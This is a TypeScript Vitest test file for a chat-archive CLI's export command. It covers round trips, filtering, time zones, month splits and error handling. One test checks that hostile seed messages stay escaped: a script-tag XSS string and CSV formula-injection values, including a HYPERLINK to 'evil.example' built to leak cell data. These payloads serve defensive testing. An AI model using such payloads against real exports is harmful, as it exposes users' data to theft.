/**
 * tim-archive export as a user runs it: a real `tim-archive pull` from the simulator over
 * 127.0.0.1, then real child processes of `tim-archive export` on the file it wrote.
 */
import { existsSync } from 'node:fs'
import { appendFile, copyFile, mkdtemp, readFile, readdir, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join, resolve } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { demoApp, demoGroupIds } from '../../tools/sim/seed'
import { Simulator } from '../../tools/sim/server'
import { cliEnv, runCli } from '../helpers/cli'
import { freshAppId } from '../helpers/sim'

const cli = resolve(__dirname, '../../out/main/cli.js')
const appId = freshAppId()
let dir: string
let sim: Simulator
let url: string
let archive: string
let pulledLines: string[]

function run(args: string[], extraEnv: Record<string, string> = {}): ReturnType<typeof runCli> {
  return runCli(args, cliEnv(appId, url, extraEnv))
}

beforeAll(async () => {
  if (!existsSync(cli)) throw new Error('out/main/cli.js is missing: run `npm run build` first (npm test does).')
  dir = await mkdtemp(join(tmpdir(), 'tim-cli-export-'))
  const app = demoApp({ benchMessages: 2000, now: Date.UTC(2026, 0, 15) / 1000 })
  sim = new Simulator({ apps: [{ ...app, sdkAppId: appId }], latencyMs: 2 })
  url = (await sim.start()).url
  archive = join(dir, 'demo.jsonl')
  const r = await run(['pull', '--group', demoGroupIds.team, '--group', demoGroupIds.bench, '--group', demoGroupIds.custom, '--out', archive])
  expect(r.code, r.stderr).toBe(0)
  pulledLines = (await readFile(archive, 'utf8')).split('\n').filter(Boolean)
}, 120_000)

afterAll(async () => {
  await sim?.stop()
  await rm(dir, { recursive: true, force: true })
})

describe('tim-archive export', () => {
  it('round trip: pull, export as JSON Lines, and get exactly the same messages, in order', async () => {
    const out = join(dir, 'round.jsonl')
    const r = await run(['export', '--in', archive, '--format', 'jsonl', '--out', out])
    expect(r.code, r.stderr).toBe(0)
    expect(r.stderr).toContain(`exported ${pulledLines.length.toLocaleString('en-US')} messages`)
    const exported = (await readFile(out, 'utf8')).split('\n').filter(Boolean)
    // The same lines, byte for byte (the pull file is in commit order; the export in seq order).
    expect([...exported].sort()).toEqual([...pulledLines].sort())
    for (let i = 1; i < exported.length; i++) {
      const a = JSON.parse(exported[i - 1]!) as { GroupId: string; MsgSeq: number }
      const b = JSON.parse(exported[i]!) as { GroupId: string; MsgSeq: number }
      if (a.GroupId === b.GroupId) expect(b.MsgSeq).toBeGreaterThan(a.MsgSeq)
    }
    // And the export re-exports to itself: it is a valid pull file.
    const again = join(dir, 'again.jsonl')
    expect((await run(['export', '--in', out, '--format', 'jsonl', '--out', again])).code).toBe(0)
    expect(await readFile(again, 'utf8')).toBe(await readFile(out, 'utf8'))
  })

  it('JSON holds the same records with the export metadata', async () => {
    const out = join(dir, 'all.json')
    const r = await run(['export', '--in', archive, '--format', 'json', '--out', out, '--time-zone', 'Asia/Shanghai'])
    expect(r.code, r.stderr).toBe(0)
    const doc = JSON.parse(await readFile(out, 'utf8')) as { export: Record<string, unknown>; messages: unknown[]; count: number }
    expect(doc.count).toBe(pulledLines.length)
    expect(doc.export).toMatchObject({ app: 'tim-archive', timeZone: 'Asia/Shanghai', count: pulledLines.length, query: '' })
    expect(doc.messages.map((m) => JSON.stringify(m)).sort()).toEqual([...pulledLines].sort())
  })

  it('I can export only one group, one sender and a date range', async () => {
    const out = join(dir, 'alice.jsonl')
    const r = await run([
      'export',
      '--in',
      archive,
      '--format',
      'jsonl',
      '--out',
      out,
      '--group',
      demoGroupIds.team,
      '--query',
      'from:alice',
      '--after',
      '2025-11-30',
      '--before',
      '2026-01-01'
    ])
    expect(r.code, r.stderr).toBe(0)
    const lines = (await readFile(out, 'utf8'))
      .split('\n')
      .filter(Boolean)
      .map((l) => JSON.parse(l) as { GroupId: string; From_Account: string; MsgTimeStamp: number })
    const expected = pulledLines
      .map((l) => JSON.parse(l) as { GroupId: string; From_Account: string; MsgTimeStamp: number })
      .filter(
        (m) =>
          m.GroupId === demoGroupIds.team &&
          m.From_Account === 'alice' &&
          m.MsgTimeStamp >= Date.UTC(2025, 11, 1) / 1000 &&
          m.MsgTimeStamp < Date.UTC(2026, 0, 1) / 1000
      )
    expect(expected.length).toBeGreaterThan(5)
    expect(lines.length).toBe(expected.length)
    for (const m of lines) expect(m.From_Account).toBe('alice')
  })

  it('every format is written, and the hostile seed texts stay inert', async () => {
    for (const format of ['html', 'csv', 'txt', 'md']) {
      const out = join(dir, `team.${format}`)
      const r = await run(['export', '--in', archive, '--format', format, '--out', out, '--group', demoGroupIds.team])
      expect(r.code, r.stderr).toBe(0)
    }
    const html = await readFile(join(dir, 'team.html'), 'utf8')
    expect(html.match(/<script/g)?.length).toBe(1)
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;')
    expect(html).not.toMatch(/href="(?!https?:)/)
    const csv = await readFile(join(dir, 'team.csv'), 'utf8')
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for bonus"")"`)
    expect(csv).toContain(`'@SUM(A1:A10)`)
    expect(csv).toContain(`"'\t=1+1\r\n=2+2"`)
  })

  it("times are in this machine's time zone unless --tz names another, and the HTML says which", async () => {
    const local = join(dir, 'local.html')
    const r = await run(['export', '--in', archive, '--format', 'html', '--out', local, '--group', demoGroupIds.custom], { TZ: 'Asia/Shanghai' })
    expect(r.code, r.stderr).toBe(0)
    expect(await readFile(local, 'utf8')).toContain('Times are in Asia/Shanghai (UTC+08:00)')
    const chosen = join(dir, 'chosen.html')
    const c = await run(['export', '--in', archive, '--format', 'html', '--out', chosen, '--group', demoGroupIds.custom, '--tz', 'Asia/Kolkata'], {
      TZ: 'Asia/Shanghai'
    })
    expect(c.code, c.stderr).toBe(0)
    expect(await readFile(chosen, 'utf8')).toContain('Times are in Asia/Kolkata (UTC+05:30)')
    const bad = await run(['export', '--in', archive, '--format', 'html', '--out', join(dir, 'bad.html'), '--tz', 'Mars/Olympus'])
    expect(bad.code).toBe(2)
    expect(bad.stderr).toContain('--tz Mars/Olympus is not a time zone')
  })

  it('a month split writes a folder of parts with an index', async () => {
    const out = join(dir, 'months')
    const r = await run(['export', '--in', archive, '--format', 'html', '--out', out, '--split', 'month', '--group', demoGroupIds.team])
    expect(r.code, r.stderr).toBe(0)
    const files = (await readdir(out)).sort()
    expect(files).toContain('index.html')
    expect(files.filter((f) => /^\d{4}-\d\d\.html$/.test(f)).length).toBeGreaterThanOrEqual(2)
  })

  it('a torn last line is skipped and reported; the rest is exported', async () => {
    const torn = join(dir, 'torn.jsonl')
    await copyFile(archive, torn)
    await appendFile(torn, '{"GroupId":"@TGS#1DEMOTEAM","MsgSeq":99')
    const out = join(dir, 'torn-out.jsonl')
    const r = await run(['export', '--in', torn, '--format', 'jsonl', '--out', out])
    expect(r.code, r.stderr).toBe(0)
    expect(r.stderr).toContain(`skipped 1 line(s) that are not records (line ${pulledLines.length + 1})`)
    expect((await readFile(out, 'utf8')).split('\n').filter(Boolean).length).toBe(pulledLines.length)
  })

  it('a record with a field of the wrong type stops the export, naming the line and the field, and writes nothing', async () => {
    const wrong = join(dir, 'wrong-types.jsonl')
    const issueLine = '{"GroupId":"@TGS#WF","MsgSeq":4,"MsgTimeStamp":"yesterday","From_Account":42,"IsPlaceMsg":"0","MsgBody":"hello"}'
    await writeFile(wrong, [...pulledLines.slice(0, 3), issueLine, ...pulledLines.slice(3)].join('\n') + '\n')
    const out = join(dir, 'wrong-out.csv')
    const r = await run(['export', '--in', wrong, '--format', 'csv', '--out', out])
    expect(r.code).toBe(1)
    expect(r.stderr).toContain('line 4: From_Account must be a string; got the number 42. Nothing was exported')
    expect(existsSync(out)).toBe(false)
  })

  it('a --group that is not in the archive exits 2, lists the groups that are, and writes nothing', async () => {
    const out = join(dir, 'nope.csv')
    const r = await run(['export', '--in', archive, '--group', '@TGS#NOPE', '--format', 'csv', '--out', out])
    expect(r.code).toBe(2)
    expect(r.stderr).toContain('--group @TGS#NOPE: not in')
    expect(r.stderr).toContain(`Groups in the archive: ${[demoGroupIds.team, demoGroupIds.bench, demoGroupIds.custom].sort().join(', ')}.`)
    expect(existsSync(out)).toBe(false)
    // A group that is there but has nothing matching the filters is an empty export, not an error.
    const empty = join(dir, 'empty.csv')
    const none = await run(['export', '--in', archive, '--group', demoGroupIds.team, '--query', 'from:nobody_at_all', '--format', 'csv', '--out', empty])
    expect(none.code, none.stderr).toBe(0)
    expect(none.stderr).toContain(`no matching messages of ${demoGroupIds.team}`)
  })

  it('a bad query is a usage error that names the problem and where it is, and writes nothing', async () => {
    const out = join(dir, 'never.csv')
    const r = await run(['export', '--in', archive, '--format', 'csv', '--out', out, '--query', 'from:alice has:imagez'])
    expect(r.code).toBe(2)
    expect(r.stderr).toContain('has:imagez is not something a message can have')
    expect(r.stderr).toContain('(at character 16)')
    expect(existsSync(out)).toBe(false)
    const bad = await run(['export', '--in', archive, '--format', 'pdf', '--out', out])
    expect(bad.code).toBe(2)
    expect(bad.stderr).toContain('--format pdf is not a format')
    const date = await run(['export', '--in', archive, '--format', 'csv', '--out', out, '--after', '2024-13-01'])
    expect(date.code).toBe(2)
    expect(date.stderr).toContain('--after: "2024-13-01" is not a date')
    expect((await run(['export', '--format', 'csv', '--out', out])).code).toBe(2)
  })
})
